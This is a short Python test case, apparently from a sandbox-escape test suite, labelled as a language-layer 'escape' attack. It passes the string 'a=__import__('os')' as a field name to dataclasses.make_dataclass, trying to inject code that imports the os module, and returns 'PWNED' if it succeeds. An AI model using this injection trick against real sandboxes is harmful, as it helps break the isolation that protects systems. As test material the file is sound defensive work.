# attack: dataclass-field-code
# layer: language
# class: escape
# success: the name of a field becomes code
import dataclasses
def run():
    return "PWNED " + repr(dataclasses.make_dataclass("X", ["a=__import__('os')"]))
